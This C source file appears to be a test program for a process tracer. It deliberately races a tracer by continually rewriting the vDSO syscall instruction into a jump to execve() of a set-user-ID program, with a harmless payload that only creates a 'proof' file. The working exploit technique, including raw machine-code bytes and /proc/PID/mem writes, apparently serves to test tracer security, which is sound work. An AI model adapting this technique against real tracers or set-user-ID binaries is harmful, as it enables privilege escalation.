/*
 * A program that wants more rights than it has. It spins at THIEF_PLACE. The
 * system call instruction that a tracer may use for an injected call is
 * rewritten all the time: it is now that instruction, now a jump to an execve()
 * of PROGRAM. PROGRAM is this file with the set-user-ID bit; at THIEF_PLACE it
 * has code that makes the file "proof" in the working directory. A tracer that
 * honours the bit and then puts the old registers back runs that code. If
 * anybody executes PROGRAM, with the bit or without, the child that rewrites
 * makes the file "executed".
 *
 * Usage: victim_thief MODE PROGRAM
 *   shared  the vDSO is replaced by a shared page, which a child writes to
 *   file    by a private page of the file "page", which a child writes to
 *   vdso    the vDSO stays, and a child writes to it through /proc/PID/mem
 *   calm    nothing is rewritten
 *   closed  it is not dumpable, and sleeps
 * Prints "ready" before it spins.
 *
 * Linked without PIE, and with .thief at THIEF_PLACE: see the Makefile.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#if defined(__x86_64__)

#define PAGE 4096
#define VDSO_SIZE 8192
#define THIEF_PLACE 0x10000000
#define STEP_PLACE 0x20000000 /* of the code that calls execve() */
#define LANDING 0x40          /* bytes behind the instruction */
#define DWELL 3000            /* rounds between two writes */
#define CALLS_MAX 16

/* Flat code: its registers and its stack are those of the other program. */
__asm__(".section .thief,\"ax\",@progbits\n\t"
	"movl $2, %eax\n\t" /* open("proof", O_WRONLY | O_CREAT, 0600) */
	"leaq 1f(%rip), %rdi\n\t"
	"movl $0101, %esi\n\t"
	"movl $0600, %edx\n\t"
	"syscall\n\t"
	"movl $231, %eax\n\t" /* exit_group(0) */
	"xorl %edi, %edi\n\t"
	"syscall\n"
	"1:\t.asciz \"proof\"\n\t"
	".text");

static const uint16_t a_call = 0x050f;                    /* syscall */
static const char a_return[] = "\xc3";                    /* ret */
static const uint16_t a_jump = 0xeb | (LANDING - 2) << 8; /* jmp LANDING */
static const char spin[] = "\xeb\xfe";                    /* jmp . */
static const char step[] = "\xb8\x3b\0\0\0"               /* mov $59, %eax */
			   "\xbf\0\1\0\x20"   /* mov $STEP_PLACE+256, %edi */
			   "\x31\xf6\x31\xd2" /* xor %esi, %esi; %edx, %edx */
			   "\x0f\x05\xeb\xfe";
static const char landing[] = "\xff\x25\0\0\0\0"    /* jmp *(%rip) */
			      "\0\0\0\x20\0\0\0\0"; /* STEP_PLACE */

static void
must(int right, const char *what)
{
	if (right)
		return;
	perror(what);
	_exit(1);
}

static void *
map_at(uintptr_t place, size_t size, int prot, int flags, int fd)
{
	void *at = mmap((void *)place, size, prot, flags, fd, 0);

	must(at != MAP_FAILED, "mmap");
	return at;
}

static char *
lay_code(uintptr_t place, const char *code, size_t size)
{
	const int all = PROT_READ | PROT_WRITE | PROT_EXEC;
	char *at = map_at(
	    place, PAGE, all, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);

	memcpy(at, code, size);
	return at;
}

/* The page FD stands for the vDSO. Where the child can write to it. */
static char *
replace_vdso(uintptr_t vdso, int fd, int flags)
{
	char *page;

	must(fd >= 0 && ftruncate(fd, VDSO_SIZE) == 0, "a page");
	page = map_at(0, VDSO_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd);
	memset(page, 0x90, VDSO_SIZE);
	memcpy(page, &a_call, sizeof(a_call));
	memcpy(page + sizeof(a_call), a_return, 1);
	memcpy(page + LANDING, landing, sizeof(landing) - 1);
	map_at(vdso, VDSO_SIZE, PROT_READ | PROT_EXEC, flags | MAP_FIXED, fd);
	return page;
}

/* Until the next write: see whether PROGRAM has been opened. */
static void
dwell(int watch)
{
	struct inotify_event event;
	volatile int round;

	if (read(watch, &event, sizeof(event)) > 0)
		close(creat("executed", 0600));
	for (round = 0; round < DWELL; round++)
		continue;
}

static void
rewrite_page(char *page, int watch)
{
	for (;;) {
		__atomic_store_n(
		    (uint16_t *)(void *)page, a_jump, __ATOMIC_SEQ_CST);
		dwell(watch);
		__atomic_store_n(
		    (uint16_t *)(void *)page, a_call, __ATOMIC_SEQ_CST);
		dwell(watch);
	}
}

static void
write_at(int fd, uintptr_t at, const void *bytes, size_t size)
{
	must(pwrite(fd, bytes, size, (off_t)at) == (ssize_t)size,
	    "the vDSO of another process");
}

/* Which of the instructions a tracer uses is not known: all of them. */
static void
rewrite_vdso(pid_t parent, uintptr_t vdso, int watch)
{
	const char *end = (char *)vdso + VDSO_SIZE - LANDING - sizeof(landing);
	uintptr_t calls[CALLS_MAX];
	const char *at = (char *)vdso;
	size_t count = 0, i;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", parent);
	fd = open(path, O_RDWR);
	must(fd >= 0, path);
	while (count < CALLS_MAX &&
	    (at = memmem(at, (size_t)(end - at), &a_call, 2)) != NULL)
		calls[count++] = (uintptr_t)at++;
	must(count > 0, "no instruction in the vDSO");
	for (i = 0; i < count; i++)
		write_at(fd, calls[i] + LANDING, landing, sizeof(landing) - 1);
	for (;;) {
		for (i = 0; i < count; i++)
			write_at(fd, calls[i], &a_jump, sizeof(a_jump));
		dwell(watch);
		for (i = 0; i < count; i++)
			write_at(fd, calls[i], &a_call, sizeof(a_call));
		dwell(watch);
	}
}

static int
watch_program(const char *program)
{
	int watch = inotify_init1(IN_NONBLOCK);

	must(watch >= 0 && inotify_add_watch(watch, program, IN_OPEN) >= 0,
	    "inotify");
	return watch;
}

static void
rewrite(char *page, pid_t parent, uintptr_t vdso, int watch)
{
	if (page != NULL)
		rewrite_page(page, watch);
	rewrite_vdso(parent, vdso, watch);
}

int
main(int argc, char **argv)
{
	uintptr_t vdso = getauxval(AT_SYSINFO_EHDR);
	pid_t parent = getpid();
	char *page = NULL;

	if (argc < 3)
		return 0;
	if (strcmp(argv[1], "closed") == 0) {
		prctl(PR_SET_DUMPABLE, 0);
		return pause();
	}
	if (strcmp(argv[1], "shared") == 0)
		page = replace_vdso(vdso, memfd_create("page", 0), MAP_SHARED);
	if (strcmp(argv[1], "file") == 0)
		page = replace_vdso(vdso,
		    open("page", O_RDWR | O_CREAT | O_TRUNC, 0700),
		    MAP_PRIVATE);
	strcpy(lay_code(STEP_PLACE, step, sizeof(step)) + 256, argv[2]);
	if (strcmp(argv[1], "calm") != 0 && fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		rewrite(page, parent, vdso, watch_program(argv[2]));
	}
	puts("ready");
	fflush(stdout);
	lay_code(THIEF_PLACE, spin, sizeof(spin));
	((void (*)(void))(uintptr_t)THIEF_PLACE)();
	return 0;
}

#else

int
main(void)
{
	return 77;
}

#endif
